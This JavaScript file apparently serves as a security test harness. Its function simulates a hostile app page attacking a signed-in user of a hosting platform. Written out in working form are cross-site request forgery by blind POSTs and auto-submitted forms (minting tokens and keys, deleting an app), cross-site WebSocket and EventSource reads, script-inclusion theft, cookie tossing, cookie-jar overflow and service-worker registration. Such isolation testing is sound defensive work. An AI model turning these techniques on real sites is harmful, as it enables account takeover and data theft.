// What a page of a hostile app can try in the browser of somebody who is signed in elsewhere. Each attempt ends as a word:
// what it got, or why it got nothing.

/** `platform` and `victim` are origins; `launcher` is the path of the victim's page on the platform. */
window.attack = async function attack({ platform, victim, launcher, app }) {
  const outcome = {};
  const attempt = async (name, deed) => {
    const late = new Promise((resolve) => setTimeout(() => resolve("nothing came of it"), 4000));
    outcome[name] = await Promise.race([deed(), late]).catch((error) => `refused: ${error.name}`);
  };
  const read = async (url, options = {}) => {
    const answer = await fetch(url, { credentials: "include", ...options });
    return answer.type === "opaque" ? "opaque" : `read: ${answer.status} ${(await answer.text()).slice(0, 200)}`;
  };
  const blind = (url, body, type = "text/plain") =>
    read(url, { method: "POST", mode: "no-cors", headers: { "content-type": type }, body });
  const first = (source) =>
    new Promise((resolve) => {
      source.onmessage = (event) => resolve(`read: ${event.data}`);
      source.onerror = () => resolve("refused: error");
    });
  const form = (url, fields) =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
      const element = Object.assign(document.createElement("form"), { method: "post", action: url, target: frame.name });
      for (const [name, value] of Object.entries(fields)) {
        element.append(Object.assign(document.createElement("input"), { name, value }));
      }
      document.body.append(frame, element);
      frame.addEventListener("load", () => resolve("sent"));
      element.submit();
    });
  const framed = (url) =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement("iframe"), { src: url });
      frame.addEventListener("load", () => {
        try {
          resolve(frame.contentDocument ? `read: ${frame.contentDocument.body.innerText}` : "opaque");
        } catch (error) {
          resolve(`refused: ${error.name}`);
        }
      });
      document.body.append(frame);
    });

  // Reading the platform.
  await attempt("who is signed in", () => read(`${platform}/api/data/user`));
  await attempt("the settings page", () => read(`${platform}/settings`));
  await attempt("the page of the victim's app", () => read(`${platform}${launcher}`));
  await attempt("the platform's news", () => first(new EventSource(`${platform}/events`, { withCredentials: true })));
  await attempt("the victim's log", () =>
    first(new EventSource(`${platform}/api/data/apps/${app}/logs?follow=true`, { withCredentials: true })));
  await attempt("a WebSocket to the platform", () => first(new WebSocket(`${platform.replace("http", "ws")}/events`)));
  await attempt("the platform in a frame", () => framed(`${platform}/settings`));
  await attempt("the platform in a window", async () => {
    const window_ = window.open(`${platform}/settings`);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return `read: ${window_.document.body.innerText}`;
  });
  await attempt("one origin with the platform", async () => {
    document.domain = "localhost";
    return "set";
  });

  // Changing something on the platform.
  const token = JSON.stringify({ name: "evil" });
  await attempt("a token, blindly", () => blind(`${platform}/api/data/user/tokens`, token));
  await attempt("a token, as JSON", () =>
    read(`${platform}/api/data/user/tokens`, { method: "POST", headers: { "content-type": "application/json" }, body: token }));
  await attempt("a token, by a form", () => form(`${platform}/settings/tokens`, { name: "evil", lifetime: "0" }));
  await attempt("an opened app, by a form", () => form(`${platform}${launcher}/access`, { open_to: "signed_in", users: "" }));
  await attempt("a key, by a form", () => form(`${platform}${launcher}/keys`, { name: "evil", lifetime: "0" }));
  await attempt("a deletion", () => read(`${platform}/api/data/apps/${app}`, { method: "DELETE" }));
  await attempt("a sign-out", () => form(`${platform}/sign-out`, {}));

  // Reading and changing the other app.
  await attempt("the diary", () => read(`${victim}/`));
  await attempt("the diary in a frame", () => framed(`${victim}/`));
  await attempt("the diary as a script", () =>
    new Promise((resolve) => {
      const script = Object.assign(document.createElement("script"), { src: `${victim}/secret.js` });
      script.onload = () => resolve(window.stolen ? `read: ${window.stolen}` : "nothing in it");
      script.onerror = () => resolve("refused: error");
      document.body.append(script);
    }));
  await attempt("a WebSocket to the diary", () => first(new WebSocket(`${victim.replace("http", "ws")}/ws`)));
  await attempt("a note, blindly", () => blind(`${victim}/notes`, "evil"));
  await attempt("a note, by a form", () => form(`${victim}/notes`, { evil: "yes" }));

  // Cookies for others, and a worker that stands between.
  for (const name of ["marmot", "marmot_ticket", "marmot_state", "theme"]) {
    for (const path of ["/", "/settings", "/sign-in"]) document.cookie = `${name}=evil; domain=localhost; path=${path}`;
  }
  for (let number = 0; number < 200; number += 1) document.cookie = `jar${number}=full; domain=localhost; path=/`;
  await attempt("a worker of the platform's", async () => {
    await navigator.serviceWorker.register(`${platform}/worker.js`);
    return "registered";
  });
  await attempt("a worker of its own", async () => {
    await navigator.serviceWorker.register("/worker.js", { scope: "/" });
    return "registered";
  });
  return outcome;
};
